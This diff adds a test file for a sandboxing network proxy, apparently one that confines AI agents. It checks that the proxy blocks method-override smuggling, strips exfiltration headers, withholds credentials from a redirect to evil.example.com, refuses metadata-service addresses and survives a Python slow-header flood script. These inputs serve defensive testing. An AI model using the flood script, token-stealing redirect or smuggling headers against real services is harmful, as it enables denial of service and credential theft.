@@ -1,0 +1,305 @@
+import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterEach, beforeEach, describe, expect } from 'vitest'
+import { parseAddress } from '../../daemon/network/address.ts'
+import { BranchQueue } from '../../daemon/network/branch-queue.ts'
+import { network, rule } from '../fixtures/network-rules.ts'
+import { Rig } from '../root/network-rig.ts'
+import { needs, program, root } from '../tier/needs.ts'
+
+const it = needs(root, program('curl'))
+const SECRET = 'sk-live-0123456789abcdef'
+const PLACEHOLDER = 'PUZZLED-TOKEN-1'
+
+const rigs: Rig[] = []
+let secrets = ''
+beforeEach(() => {
+  secrets = mkdtempSync(join(tmpdir(), 'puzzled-secrets-'))
+  writeFileSync(join(secrets, 'token'), `${SECRET}\n`, { mode: 0o600 })
+})
+afterEach(async () => {
+  for (const rig of rigs.splice(0)) await rig.close()
+  rmSync(secrets, { recursive: true })
+})
+
+async function open(...parameters: Parameters<typeof Rig.open>): Promise<Rig> {
+  const rig = await Rig.open(...parameters)
+  rigs.push(rig)
+  return rig
+}
+
+const curl = async (rig: Rig, ...args: string[]): Promise<string> =>
+  (await rig.run(['curl', '-sS', '--max-time', '20', '-w', '|%{http_code}', ...args])).out
+
+const credential = () => ({
+  placeholder: PLACEHOLDER,
+  source: { kind: 'file', path: join(secrets, 'token') } as const,
+  hosts: ['api.example.com'],
+  header: 'authorization',
+  query: 'key',
+  why: 'test',
+})
+
+describe('S38 a read that is a write', () => {
+  const PROFILE = network([
+    rule('read', { hosts: ['r.example.com'] }),
+    rule('queue', { hosts: ['q.example.com'], class: 'queue' }),
+  ])
+  it.each([
+    [['-H', 'X-HTTP-Method-Override: DELETE'], '/x'],
+    [['-H', 'X-Original-URL: /admin'], '/x'],
+    [[], '/x?_method=DELETE'],
+    [[], '/graphql?query=mutation%20%7Bdrop%7D'],
+    [['--data', 'x', '-X', 'GET'], '/x'],
+    [['-X', 'PUT', '--data', 'x'], '/bucket/key?X-Amz-Signature=1'],
+  ])('curl %j %s is denied, or queued where writes are', async (args, path) => {
+    const rig = await open(PROFILE)
+    expect(await curl(rig, ...args, `https://r.example.com${path}`)).toMatch(/"rule":"read".*\|403$/s)
+    expect(await curl(rig, ...args, `https://q.example.com${path}`)).toMatch(/"queued":true.*\|202$/s)
+    expect(rig.outside.requests).toEqual([])
+  })
+
+  it('an upgrade and a git push are denied where they would have to be queued', async () => {
+    const rig = await open(PROFILE)
+    const upgrade = [
+      '--http1.1',
+      '-H',
+      'Connection: Upgrade',
+      '-H',
+      'Upgrade: websocket',
+      '-H',
+      'Sec-WebSocket-Key: eA==',
+    ]
+    expect(await curl(rig, ...upgrade, 'https://q.example.com/ws')).toMatch(/\|403$/)
+    expect(await curl(rig, 'https://q.example.com/r.git/info/refs?service=git-receive-pack')).toMatch(
+      /\|403$/,
+    )
+    expect(rig.outside.requests).toEqual([])
+  })
+
+  it('headers that are on no list stay inside', async () => {
+    const rig = await open(PROFILE)
+    await curl(
+      rig,
+      '-H',
+      'X-Exfil: data',
+      '-H',
+      'Cookie: kept=1',
+      '-H',
+      'X-Forwarded-Host: evil.test',
+      'https://r.example.com/x',
+    )
+    expect(Object.keys(rig.outside.requests[0]?.headers ?? {}).sort()).toEqual([
+      'accept',
+      'connection',
+      'cookie',
+      'host',
+      'user-agent',
+    ])
+  })
+})
+
+describe('S39 replay', () => {
+  const queueRule = rule('queue', { class: 'queue', addresses: ['127.88.0.0/16'] })
+  const profile = () => network([queueRule], { credentials: [credential()] })
+
+  async function queued(rig: Rig): Promise<void> {
+    const args = [
+      '-H',
+      `Authorization: Bearer ${PLACEHOLDER}`,
+      '-H',
+      'content-type: application/json',
+      '-d',
+      '{"n":1}',
+    ]
+    for (const path of ['/1', '/2'])
+      expect(await curl(rig, ...args, `https://api.example.com${path}`)).toContain('|202')
+    await rig.network.close()
+  }
+
+  /** As after the commit, in another life of the daemon. */
+  async function later(rig: Rig, rules: ReturnType<typeof profile>, address: string): Promise<BranchQueue> {
+    const parsed = parseAddress(address)
+    const queue = await BranchQueue.open({
+      branch: 'testbranch',
+      network: rules,
+      directory: rig.directory,
+      onEvent: (event) => rig.events.push(event),
+      lookup: async () => ({ addresses: parsed === undefined ? [] : [parsed], ttlSeconds: 60 }),
+      authorities: [rig.outside.authority.certificate],
+    })
+    await queue.queue.approve(queue.queue.summaries())
+    return queue
+  }
+
+  it('sends what was approved, with the secret that no file holds', async () => {
+    const rig = await open(profile())
+    await queued(rig)
+    for (const name of filesBelow(rig.directory))
+      expect(readFileSync(name).includes(SECRET), name).toBe(false)
+    const queue = await later(rig, profile(), rig.outside.address)
+    expect(await queue.replay()).toMatchObject({
+      sent: [expect.anything(), expect.anything()],
+      stopped: undefined,
+    })
+    await queue.close()
+    expect(rig.outside.requests.map((one) => [one.method, one.url, one.body])).toEqual([
+      ['POST', '/1', '{"n":1}'],
+      ['POST', '/2', '{"n":1}'],
+    ])
+    expect(rig.outside.requests[0]?.headers).toMatchObject({
+      authorization: `Bearer ${SECRET}`,
+      'idempotency-key': expect.stringMatching(/^puzzled-r/),
+    })
+    for (const name of filesBelow(rig.directory))
+      expect(readFileSync(name).includes(SECRET), name).toBe(false)
+    expect(rig.events.filter((event) => event.kind === 'request').map((event) => event.state)).toEqual([
+      'queued',
+      'queued',
+      'sending',
+      'sent',
+      'sending',
+      'sent',
+    ])
+  })
+
+  it.each([
+    [
+      'the rules no longer allow it',
+      () => network([rule('read')], { credentials: [credential()] }),
+      undefined,
+    ],
+    ['the name leads to a metadata service', profile, '169.254.169.254'],
+    ['the name leads to this host', profile, '127.0.0.1'],
+  ])('stops when %s', async (_name, rules, address) => {
+    const rig = await open(profile())
+    await queued(rig)
+    const queue = await later(rig, rules(), address ?? rig.outside.address)
+    const report = await queue.replay()
+    expect(report).toMatchObject({ sent: [], stopped: { state: 'failed' }, waiting: 1 })
+    await queue.close()
+    expect(rig.outside.requests).toEqual([])
+  })
+})
+
+describe('S40 credentials', () => {
+  const profile = () =>
+    network([rule('live', { hosts: ['*.example.com'], ports: [80, 443], class: 'live' })], {
+      credentials: [credential()],
+    })
+  const bearer = ['-H', `Authorization: Bearer ${PLACEHOLDER}`]
+
+  it('reach their host and come back as placeholders, from bodies, headers and trailers of chunks', async () => {
+    const rig = await open(profile())
+    const arrived: (string | undefined)[] = []
+    rig.outside.handler = (request, response) => {
+      arrived.push(request.headers.authorization, request.url)
+      response.setHeader('x-echo', request.headers.authorization ?? '')
+      const text = `you sent ${request.headers.authorization} and ${Buffer.from(SECRET).toString('base64')} and ${encodeURIComponent(SECRET)}`
+      for (const part of text.match(/.{1,7}/gs) ?? []) response.write(part)
+      response.end()
+    }
+    const out = await curl(rig, '-i', ...bearer, `https://api.example.com/echo?key=${PLACEHOLDER}`)
+    expect(arrived).toEqual([`Bearer ${SECRET}`, `/echo?key=${SECRET}`])
+    expect(out).toContain(`you sent Bearer ${PLACEHOLDER}`)
+    for (const form of [SECRET, Buffer.from(SECRET).toString('base64').replace(/=+$/, '')])
+      expect(out).not.toContain(form)
+    expect(JSON.stringify(rig.network.environment)).not.toContain(SECRET)
+  })
+
+  it('do not follow a redirect to another host, and do not go out in clear text', async () => {
+    const rig = await open(profile())
+    const arrived: string[] = []
+    rig.outside.handler = (request, response) => {
+      arrived.push(`${request.headers.host} ${request.headers.authorization}`)
+      if (request.headers.host === 'api.example.com')
+        response.writeHead(302, {
+          location: `https://evil.example.com/?t=${request.headers.authorization?.slice(7)}`,
+        })
+      response.end()
+    }
+    const out = await curl(rig, '-i', '-L', '--location-trusted', ...bearer, 'https://api.example.com/')
+    await curl(rig, ...bearer, 'http://api.example.com/')
+    expect(arrived[0]).toBe(`api.example.com Bearer ${SECRET}`)
+    expect(arrived.slice(1).join()).not.toContain(SECRET)
+    expect(arrived[1]).toBe(`evil.example.com Bearer ${PLACEHOLDER}`)
+    expect(out).not.toContain(SECRET)
+  })
+
+  it('are not shown by TRACE, and an answer that cannot be searched is refused', async () => {
+    const rig = await open(profile())
+    rig.outside.handler = (_request, response) => {
+      response.writeHead(200, { 'content-encoding': 'gzip' })
+      response.end(Buffer.from('1f8b', 'hex'))
+    }
+    expect(await curl(rig, '-X', 'TRACE', ...bearer, 'https://api.example.com/')).toMatch(
+      /"rule":"trace".*\|405$/s,
+    )
+    expect(await curl(rig, ...bearer, 'https://api.example.com/')).toMatch(
+      /"rule":"answer-unsearchable".*\|502$/s,
+    )
+  })
+})
+
+describe('S41 too much of everything', () => {
+  const PROFILE = network([
+    rule('few', { hosts: ['few.example.com'], ports: [80], budget: { requests: 2 } }),
+    rule('small', { hosts: ['small.example.com'], ports: [80], class: 'live', budget: { bytes: 5_000 } }),
+    rule('write', { ports: [80], methods: ['POST'], class: 'queue' }),
+    rule('read', { ports: [80] }),
+  ])
+
+  it('is answered with the status that says what', async () => {
+    const rig = await open(PROFILE, {
+      queueLimits: { maxRequests: 2, maxBytes: 10_000, maxBodyBytes: 5_000 },
+    })
+    const url = 'http://api.example.com/'
+    const post = (bytes: number) => ['-X', 'POST', '-H', 'Expect:', '--data-binary', 'x'.repeat(bytes), url]
+    expect(await curl(rig, '-H', `X: ${'x'.repeat(70_000)}`, url)).toContain('|431')
+    expect(await curl(rig, `${url}${'x'.repeat(20_000)}`)).toContain('|414')
+    expect(await curl(rig, ...post(6_000))).toMatch(/body-too-large.*\|413$/s)
+    for (const expected of ['|202', '|202']) expect(await curl(rig, ...post(100))).toContain(expected)
+    expect(await curl(rig, ...post(100))).toMatch(/queue-full.*\|429$/s)
+    for (const expected of ['|200', '|200', '|429'])
+      expect(await curl(rig, 'http://few.example.com/')).toContain(expected)
+    expect(
+      await curl(rig, '-X', 'POST', '--data-binary', 'x'.repeat(6_000), 'http://small.example.com/'),
+    ).toMatch(/\|(429|502)$/)
+  })
+
+  it('of one agent leaves the others their answers', async () => {
+    const limits = { connections: 40, headersMs: 3_000 }
+    const loud = await open(PROFILE, { limits })
+    const quiet = await open(PROFILE)
+    // Slow headers on more connections than it may have, for as long as the other one asks.
+    const flood = `
+import socket, time
+held = []
+for n in range(200):
+    try:
+        s = socket.create_connection(('127.0.0.1', 3128), 2); s.sendall(b'GET http://api.example.com/ HTTP/1.1\\r\\nX: '); held.append(s)
+    except OSError: pass
+print('flooded', flush=True)
+end = time.time() + 6
+alive = list(held)
+while time.time() < end and alive:
+    for s in list(alive):
+        try: s.sendall(b'x')
+        except OSError: alive.remove(s)
+    time.sleep(0.2)
+print('alive', len(alive))
+`
+    const flooding = loud.run(['python3', '-c', flood])
+    for (let n = 0; n < 20; n++) expect(await curl(quiet, 'http://api.example.com/')).toContain('|200')
+    expect((await flooding).out).toContain('alive 0')
+    expect(await curl(loud, 'http://api.example.com/')).toContain('|200')
+    expect(loud.events).toContainEqual(expect.objectContaining({ rule: 'too-many-connections' }))
+  })
+})
+
+function filesBelow(directory: string): string[] {
+  return (readdirSync(directory, { recursive: true }) as string[])
+    .map((name) => join(directory, name))
+    .filter((path) => statSync(path).isFile())
+}
